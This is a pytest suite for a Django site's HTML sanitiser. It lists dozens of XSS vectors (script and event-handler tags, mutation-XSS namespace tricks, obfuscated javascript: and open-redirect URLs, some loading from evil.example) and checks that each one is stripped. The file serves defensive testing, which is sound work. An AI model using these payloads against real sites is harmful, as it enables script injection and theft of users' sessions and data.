"""What may be written, and that it cannot hurt. The vectors are our own compilation, after the OWASP "XSS Filter
Evasion" and "DOM Clobbering" cheat sheets, the html5sec.org collection, the bleach and nh3/ammonia advisories
(GHSA-8rfp-98v4-mmr6, GHSA-gj48-438w-jh9v, CVE-2020-6802, CVE-2021-23980, CVE-2021-38193) and what mXSS research
(DOMPurify, Heiderich et al. 2013) did to sanitisers with namespaces."""

import re
from html.parser import HTMLParser

import nh3
import pytest
from django.contrib.staticfiles import finders
from django.core.exceptions import ValidationError
from django.db import connection, transaction
from django.db.models import F, Value
from django.db.models.functions import Concat
from django.template import Context, Template
from django_prose_editor.config import allowlist_from_extensions
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from events.models import Workshop
from sharedlives.foundation import richtext
from sharedlives.foundation.richtext import RichTextFormField, TooLong, TooTangled, clean
from tests.factories import create_workshop

HOSTILE = [
    # Scripts, and elements that act
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script >",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><maction actiontype='statusline#http://evil.example' xlink:href='javascript:alert(1)'>x</maction></math>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' srcset='//evil.example/a 1x' onerror=alert`1`>",
    "<image src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html;base64,PHNjcmlwdD4='></object>",
    "<embed src='javascript:alert(1)'>",
    "<applet code=x></applet>",
    "<form action='//evil.example'><input name=password autofocus onfocus=alert(1)></form>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<input type=image src=x formaction=//evil.example>",
    "<isindex action=javascript:alert(1) type=image>",
    "<keygen autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example)}</style>words",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href='//evil.example/'>",
    "<template><script>alert(1)</script></template>",
    "<portal src='https://evil.example'></portal>",
    "<dialog open onclose=alert(1)>x</dialog>",
    # Attributes of elements that we do allow
    "<p onclick=alert(1)>x</p>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p class=skip-link>x</p>",
    "<p id=main>x</p>",
    "<a id=csrfmiddlewaretoken name=attributes href=/x>x</a>",
    "<a href=/x ping=//evil.example target=_top download>x</a>",
    "<a href=/x onmouseover=alert(1)//>x</a>",
    "<a href=/x style=position:fixed;inset:0>x</a>",
    "<td background=javascript:alert(1)>x",
    "<table background=//evil.example><tr><td bgcolor=red>x</table>",
    "<ol start='1 onclick=alert(1)'><li value=3>x</ol>",
    "<blockquote cite='javascript:alert(1)'>x</blockquote>",
    "<th colspan=1e9 rowspan=-1 scope=x>x</th>",
    "<p/onclick=alert(1)/x>x",
    "<p\x0conclick=alert(1)>x",
    '<p a="\'" b=\'"\' onclick="alert(1)">x',
    "<p xmlns:x='http://www.w3.org/1999/xhtml'><x:script>alert(1)</x:script>",
    # Parsers led astray
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><p title='</title><script>alert(1)</script>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<plaintext><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo '<script>alert(1)</script>' ?>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<svg><foreignobject><p><style><!--</style><a href='--><img src=x onerror=alert(1)>'>",
    "<select><template shadowroot=open><script>alert(1)</script></select>",
    "<a href='x'><table><tr><td></a><img src=x onerror=alert(1)></td></tr></table>",
    "<p><a href='/x' title='&lt;img src=x onerror=alert(1)&gt;'>x</a>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<\x00script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\ufeff<script>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<p>{{ settings.SECRET_KEY }} {% load x %} %(x)s {event.__init__.__globals__}</p>",
]

HOSTILE_ADDRESSES = [
    "javascript:alert(1)",
    "javascript:123",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\rscript:alert(1)",
    "java\x00script:alert(1)",
    "java&#09;script:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&amp;colon;alert(1)",
    "&#106;&#97;&#118;&#97;script:alert(1)",
    "&#x6A&#x61&#x76&#x61script:alert(1)",
    "java\u200bscript:alert(1)",
    "java\u00adscript:alert(1)",
    "java\u2060script:alert(1)",
    "\u202ejavascript:alert(1)",
    "java\ufeffscript:alert(1)",
    "\u200bhttps://evil.example",
    "https://exa\u00admple.org",
    "javascript://example.org/%0aalert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml;base64,PHN2Zz4=",
    "blob:https://example.org/x",
    "filesystem:https://example.org/x",
    "file:///etc/passwd",
    "feed:javascript:alert(1)",
    "view-source:https://example.org",
    "jar:https://example.org!/",
    "intent://evil#Intent;scheme=x;end",
    "//evil.example",
    "///evil.example",
    "/\\evil.example",
    "\\\\evil.example",
    "/\t/evil.example",
    "https:evil.example",
    "https:/evil.example",
    "https:///evil.example",
    "https:\\\\evil.example",
    "https://www.charity.example@evil.example/",
    "https://www.charity.example:443@evil.example/",
    "http://user:password@evil.example/",
    "mailto://evil.example",
    "tel:javascript",
    ":alert(1)",
    "x:alert(1)",
    "//",
    "https://" + "x" * 3000,
]


class Findings(HTMLParser):
    """Reads as a browser might, and collects what our policy does not know."""

    def __init__(self, policy):
        super().__init__()
        self.policy = richtext.POLICIES[policy]
        self.found = []

    def handle_starttag(self, tag, attrs):
        allowed = self.policy.attributes.get(tag, ())
        if tag not in self.policy.tags:
            self.found.append(tag)
        self.found += [f"{tag} {name}={value}" for name, value in attrs if name not in allowed]
        self.found += [f"address {value}" for name, value in attrs if name == "href" and not is_harmless(value)]

    def handle_comment(self, data):
        self.found.append("comment")

    handle_decl = handle_pi = unknown_decl = handle_comment


def is_harmless(address):
    return bool(re.match(r"(?:https?://[\w.-]+(?:[:/?#]|$)|mailto:\S+@|tel:[+\d]|/(?![/\\])|#)", address))


def findings(html, policy="staff"):
    reader = Findings(policy)
    reader.feed(html)
    reader.close()
    return reader.found


def as_nh3_has_it(html, policy):
    """What nh3 alone makes of it, with the same list and without our code."""
    rules = richtext.POLICIES[policy]
    return nh3.clean(
        html, tags=set(rules.tags), attributes=rules.attributes, url_schemes=richtext.SCHEMES, link_rel=None
    )


@pytest.mark.parametrize("policy", ["staff", "guest"])
@pytest.mark.parametrize("vector", HOSTILE)
def test_nothing_hostile_is_left(vector, policy):
    cleaned = clean(f"<p>before</p>{vector}<p>after</p>", policy)

    assert findings(cleaned, policy) == []
    assert "before" in cleaned


@pytest.mark.parametrize("policy", ["staff", "guest"])
@pytest.mark.parametrize("address", HOSTILE_ADDRESSES)
@pytest.mark.parametrize("quote", ['"', "'"])
def test_no_hostile_address_is_left(address, policy, quote):
    cleaned = clean(f"<p>see <a href={quote}{address}{quote}>this</a></p>", policy)

    assert findings(cleaned, policy) == []
    assert "href" not in cleaned
    assert "this" in cleaned


@pytest.mark.parametrize(
    "address",
    [
        "https://www.example.org/a?b=c&d=e#f",
        "http://example.org",
        "https://social.example/@anna",
        "mailto:ann@example.org?subject=Hello",
        "tel:+441514960000",
        "/workshops/",
        "/",
        "#dates",
        "https://example.org:8443/x",
        "https://de.wikipedia.org/wiki/Käse",
    ],
)
def test_addresses_that_people_use_stay(address):
    cleaned = clean(f'<p><a href="{address}">this</a></p>', "guest")

    assert cleaned == f'<p><a href="{address.replace("&", "&amp;")}">this</a></p>'


@pytest.mark.parametrize(
    ("typed", "kept"),
    [
        ("www.example.org/a", "https://www.example.org/a"),
        ("ann@example.org", "mailto:ann@example.org"),
        (" https://example.org/a b.pdf ", "https://example.org/a%20b.pdf"),
    ],
)
def test_addresses_are_tidied(typed, kept):
    assert clean(f'<p><a href="{typed}">this</a></p>') == f'<p><a href="{kept}">this</a></p>'


def test_words_of_scripts_and_styles_go_with_them():
    assert clean("<p>a</p><script>alert(1)</script><style>p{}</style><title>t</title>") == "<p>a</p>"


def test_headings_of_the_page_itself_become_ours():
    assert clean("<h1 class=x>One</h1><h5>Five</h5>") == "<h2>One</h2><h4>Five</h4>"
    assert clean("<h1>One</h1><h4>Four</h4>", "guest") == "<h2>One</h2><h3>Four</h3>"


def test_the_guest_policy_is_the_narrower():
    staff, guest = richtext.POLICIES["staff"], richtext.POLICIES["guest"]

    assert guest.tags < staff.tags
    assert clean("<table><tr><td>a</td></tr></table><s>b</s>", "guest") == "<p>ab</p>"


def test_what_people_write_stays_as_it_is():
    text = (
        "<h2>Title</h2><p>One <strong>two</strong> <em>three</em> <s>four</s> H<sub>2</sub>O m<sup>2</sup><br>five</p>"
        '<ul><li><p>a</p><ul><li>b</li></ul></li></ul><ol start="3"><li>c</li></ol><blockquote><p>q</p></blockquote>'
        "<hr>"
        '<table><tbody><tr><th colspan="2"><p>h</p></th></tr><tr><td>1</td><td>2</td></tr></tbody></table>'
        "<h3>Low</h3><h4>Lower</h4><p>5 &lt; 6 &amp; 7 &gt; 3, “quoted”, £5, Llŷn 😀</p>"
    )

    assert clean(text) == text


def test_words_without_elements_become_paragraphs():
    assert clean("One & two\n\nThree\nfour") == "<p>One &amp; two</p>\n\n<p>Three<br>four</p>"
    assert clean("<em>One</em>\r\n\r\nTwo") == "<p><em>One</em></p>\n\n<p>Two</p>"


def test_boxes_become_paragraphs_so_that_words_do_not_run_together():
    assert clean("<div>one</div><div><p>two</p></div>") == "<p>one</p><p>two</p>"


@pytest.mark.parametrize(
    "nothing", ["", " ", "<p></p>", "<p> &nbsp;<br></p>", "<h2><strong></strong></h2>", "<!-- x -->"]
)
def test_nothing_is_nothing(nothing):
    assert clean(nothing) == ""


def test_characters_that_nobody_can_print_go():
    assert clean("<p>a\x00b\x0bc\ud800d&#1;e\ufffef\x7f</p>") == "<p>abcdef</p>"


# --- Stable, and of one mind with nh3 ---------------------------------------------------------------------------------

FRAGMENTS = [
    *HOSTILE,
    "<p>",
    "</p>",
    "<b>",
    "</b>",
    "<em>",
    "</em>",
    "<a href='/x'>",
    "<a href='javascript:1'>",
    "</a>",
    "<ul><li>",
    "</ul>",
    "<ol>",
    "<table>",
    "<tr>",
    "<td>",
    "<th>",
    "</table>",
    "<caption>",
    "<h1>",
    "</h1>",
    "<h2>",
    "<blockquote>",
    "</blockquote>",
    "<br>",
    "<hr>",
    "<div>",
    "</div>",
    "<pre>\n\n",
    "<dl><dt>a<dd>b",
    "<s>",
    "<sub>",
    "</sub>",
    "&",
    "&lt;",
    "&amp;lt;",
    "&nbsp;",
    "&#13;",
    "<",
    ">",
    '"',
    "\r\n",
    "\n\n",
    " words ",
    "\xa0",
    "<a href='/?a=1&lt=2&copy=3&amp;x=&quot;y&lt;'>",
    "<td colspan='2' rowspan=02>",
    '<ol start="&#49;">',
    "<button>",
    "<nobr>",
    "<select>",
    "<option>",
    "<form>",
    "<frameset>",
    "<svg><p>",
    "<math><mi><p>",
    "<title>",
    "</title>",
    "<textarea>",
    "<!--",
    "-->",
]
texts = st.lists(st.sampled_from(FRAGMENTS) | st.text(max_size=8), max_size=25).map("".join)


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(text=texts, policy=st.sampled_from(["staff", "guest"]))
def test_cleaning_what_is_clean_changes_nothing_and_nh3_agrees(text, policy):
    once = clean.__wrapped__(text, policy)

    assert clean.__wrapped__(once, policy) == once
    assert as_nh3_has_it(once, policy) == once
    assert findings(once, policy) == []


# --- Too much is refused; how long the worst takes that is not: benchmarks/clean_rich_text.py ------------------------


@pytest.mark.parametrize(
    "text",
    [
        "<" * 1_000_000,
        "&" * 1_000_000,
        "<p " + " ".join(f"a{number}=1" for number in range(200_000)) + ">",
        "<!--" + "x" * 500_000,
    ],
)
def test_a_megabyte_is_refused_before_any_parser_sees_it(text, monkeypatch):
    for parser in (nh3, richtext.bleach):
        monkeypatch.setattr(parser, "clean", None)

    with pytest.raises(TooLong):
        clean(text)


@pytest.mark.parametrize(
    ("text", "refusal"),
    [
        ("<div>" * richtext.MOST_TAGS + "<", TooTangled),
        ("x" * 70_000 + "< " * 5_000, TooLong),  # each becomes four characters
        ("<blockquote>" * (richtext.DEEPEST + 1) + "x", TooTangled),
    ],
)
def test_what_would_take_long_is_refused(text, refusal):
    with pytest.raises(refusal):
        clean(text)


# --- On every way into the database -----------------------------------------------------------------------------------

BAD, GOOD = "<p onclick=x>Hello<script>alert(1)</script></p>", "<p>Hello</p>"


def stored(workshop):
    """What really stands in the table."""
    with connection.cursor() as cursor:
        cursor.execute("SELECT description FROM events_workshop WHERE id = %s", [workshop.pk])
        return cursor.fetchone()[0]


@pytest.mark.django_db
class TestCleanedOnEveryPath:
    def test_create_and_save(self):
        workshop = create_workshop(description=BAD)
        assert stored(workshop) == workshop.description == GOOD

        workshop.description = BAD
        workshop.save(update_fields=["description"])
        assert stored(workshop) == workshop.description == GOOD

    def test_saved_ten_times_the_bytes_stay(self):
        workshop = create_workshop(description="<p><a href='/?a=1&lt=2'>x</a> &lt; & ' \" &amp;lt;</p>")
        first = stored(workshop)
        for _ in range(10):
            workshop.refresh_from_db()
            workshop.save()
        assert stored(workshop) == first

    def test_update(self):
        workshop = create_workshop()
        Workshop.objects.update(description=BAD)
        assert stored(workshop) == GOOD

    def test_bulk_create_and_bulk_update(self):
        [workshop] = Workshop.objects.bulk_create([Workshop(title="A", slug="a", summary="s", description=BAD)])
        assert stored(workshop) == GOOD

        workshop.description = BAD
        Workshop.objects.bulk_update([workshop], ["description"])
        assert stored(workshop) == GOOD

    def test_update_or_create(self):
        workshop, _ = Workshop.objects.update_or_create(slug="a", defaults={"title": "A", "description": BAD})
        assert stored(workshop) == GOOD

    def test_expressions_that_cannot_be_cleaned_are_refused(self):
        workshop = create_workshop(description=GOOD)
        for expression in (Value(BAD), Concat(F("description"), Value(BAD)), F("title")):
            with pytest.raises(TypeError, match="rich text"), transaction.atomic():
                Workshop.objects.update(description=expression)
        Workshop.objects.update(description=F("description"))
        assert stored(workshop) == GOOD

    def test_too_long_is_refused(self):
        workshop = create_workshop(description=GOOD)
        workshop.description = "<" * 1_000_000
        with pytest.raises(ValidationError, match="too long"):
            workshop.save()
        with pytest.raises(ValidationError, match="too long"):
            Workshop.objects.update(description="<" * 1_000_000)


# --- In a form --------------------------------------------------------------------------------------------------------


def test_the_form_says_that_a_text_is_too_long():
    with pytest.raises(ValidationError, match="at most 80,000 characters"):
        RichTextFormField().clean("<" * 1_000_000)


def test_an_empty_paragraph_does_not_count_as_filled_in():
    with pytest.raises(ValidationError, match="required"):
        RichTextFormField().clean("<p></p>")
    assert RichTextFormField(required=False).clean("<p></p>") == ""


def test_a_text_sent_back_untouched_has_not_changed():
    field = RichTextFormField()

    assert not field.has_changed("<p>a</p>\n\n<p>b</p>", "<p>a</p>\r\n\r\n<p>b</p>")
    assert field.has_changed("<p>a</p>", "<p>b</p>")
    assert field.has_changed("<p>a</p>", "<" * 1_000_000)


@pytest.mark.parametrize("policy", ["staff", "guest"])
def test_the_editor_offers_nothing_that_the_policy_takes_away(policy):
    offered = allowlist_from_extensions(richtext.EDITOR_TOOLS[policy])

    # It writes table bodies and paragraphs of its own accord; the kinds of numbers in lists are switched off.
    assert offered["tags"] <= richtext.POLICIES[policy].tags


def test_the_rules_of_the_pinned_editor_stand_in_our_stylesheet():
    with open(finders.find("django_prose_editor/editor.js")) as script:
        rules = re.search(r"`(\.ProseMirror \{\n  position: relative;.*?)`", script.read(), re.DOTALL)[1]
    with open(finders.find("css/editor.css")) as stylesheet:
        assert rules in stylesheet.read()


def test_tables_are_shown_so_that_they_scroll_by_themselves():
    shown = Template("{% load richtext %}{{ text|richtext }}").render(Context({"text": clean("<table><td>a</table>")}))

    assert shown == (
        '<div class="table-scroll" role="group" aria-label="Table" tabindex="0">'
        "<table><tbody><tr><td>a</td></tr></tbody></table></div>"
    )
